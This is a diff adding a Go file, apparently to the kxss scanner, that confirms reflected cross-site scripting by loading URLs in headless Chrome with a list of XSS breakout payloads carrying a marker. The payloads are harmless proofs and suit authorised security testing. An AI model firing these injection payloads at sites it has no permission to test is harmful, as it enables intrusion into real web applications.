@@ -0,0 +1,168 @@
+package main
+
+import (
+	"context"
+	"fmt"
+	"strings"
+	"sync/atomic"
+	"time"
+
+	"github.com/chromedp/chromedp"
+)
+
+// The ways a verification payload can be seen to have worked
+const (
+	domElement   = "element"
+	domAttribute = "attribute"
+	domScript    = "script"
+)
+
+// A verifyPayload is appended to a reflected parameter and loaded
+// in the browser. {m} is replaced with a unique marker, and the
+// payload is only tried when all of chars were allowed through
+type verifyPayload struct {
+	template string
+	chars    []string
+	kind     string
+}
+
+var verifyPayloads = []verifyPayload{
+	{"<svg onload={m}=1>", []string{"<", ">"}, domScript},
+	{"\"><svg onload={m}=1>", []string{"\"", "<", ">"}, domScript},
+	{"'><svg onload={m}=1>", []string{"'", "<", ">"}, domScript},
+	{"</script><svg onload={m}=1>", []string{"<", ">"}, domScript},
+	{"';{m}=1;//", []string{"'", ";"}, domScript},
+	{"\";{m}=1;//", []string{"\"", ";"}, domScript},
+	{"<{m}>", []string{"<", ">"}, domElement},
+	{"\"><{m}>", []string{"\"", "<", ">"}, domElement},
+	{"'><{m}>", []string{"'", "<", ">"}, domElement},
+	{"\" {m}=\"", []string{"\""}, domAttribute},
+	{"' {m}='", []string{"'"}, domAttribute},
+}
+
+// payloadsFor returns the verification payloads that only
+// need characters from allowed
+func payloadsFor(allowed []string) []verifyPayload {
+	ok := make(map[string]bool)
+	for _, c := range allowed {
+		ok[c] = true
+	}
+
+	out := make([]verifyPayload, 0)
+	for _, p := range verifyPayloads {
+		usable := true
+		for _, c := range p.chars {
+			if !ok[c] {
+				usable = false
+				break
+			}
+		}
+
+		if usable {
+			out = append(out, p)
+		}
+	}
+
+	return out
+}
+
+var markerID uint64
+
+func newMarker() string {
+	return fmt.Sprintf("kxss%d", atomic.AddUint64(&markerID, 1))
+}
+
+// verifier loads candidate URLs in headless Chrome to see if the
+// reflected markers actually end up in the DOM
+type verifier struct {
+	browser context.Context
+	timeout time.Duration
+}
+
+// newVerifier starts the browser; the returned func shuts it down
+func newVerifier(timeout time.Duration) (*verifier, func()) {
+	opts := append(chromedp.DefaultExecAllocatorOptions[:],
+		chromedp.UserAgent(userAgent),
+		chromedp.IgnoreCertErrors,
+	)
+
+	allocCtx, allocCancel := chromedp.NewExecAllocator(context.Background(), opts...)
+	browserCtx, browserCancel := chromedp.NewContext(allocCtx)
+
+	return &verifier{browser: browserCtx, timeout: timeout}, func() {
+		browserCancel()
+		allocCancel()
+	}
+}
+
+// verify tries each usable payload in turn, returning the kinds of
+// DOM change that were seen and the URL of the first one that
+// worked. Once a kind has been confirmed other payloads of that
+// kind are skipped
+func (v *verifier) verify(targetURL, param string, allowed []string) ([]string, string, error) {
+	kinds := make([]string, 0)
+	proof := ""
+	seen := make(map[string]bool)
+
+	for _, p := range payloadsFor(allowed) {
+		if seen[p.kind] {
+			continue
+		}
+
+		marker := newMarker()
+		probeURL, _, err := appendParam(targetURL, param, strings.Replace(p.template, "{m}", marker, -1))
+		if err != nil {
+			return kinds, proof, err
+		}
+
+		found, err := v.check(probeURL, marker)
+		if err != nil {
+			return kinds, proof, err
+		}
+
+		for _, k := range found {
+			if seen[k] {
+				continue
+			}
+			seen[k] = true
+			kinds = append(kinds, k)
+
+			if proof == "" {
+				proof = probeURL
+			}
+		}
+	}
+
+	return kinds, proof, nil
+}
+
+// check loads probeURL in a new tab and looks for marker as an
+// element, an attribute, or a global set by executed script
+func (v *verifier) check(probeURL, marker string) ([]string, error) {
+	ctx, cancel := chromedp.NewContext(v.browser)
+	defer cancel()
+	ctx, cancelTimeout := context.WithTimeout(ctx, v.timeout)
+	defer cancelTimeout()
+
+	var res map[string]bool
+	err := chromedp.Run(ctx,
+		chromedp.Navigate(probeURL),
+		chromedp.Evaluate(fmt.Sprintf(`({
+			%q: document.getElementsByTagName(%q).length > 0,
+			%q: document.querySelector("[%s]") !== null,
+			%q: window[%q] === 1
+		})`, domElement, marker, domAttribute, marker, domScript, marker), &res),
+	)
+	if err != nil {
+		return nil, err
+	}
+
+	out := make([]string, 0)
+	for _, k := range []string{domScript, domElement, domAttribute} {
+		if res[k] {
+			out = append(out, k)
+		}
+	}
+
+	return out, nil
+}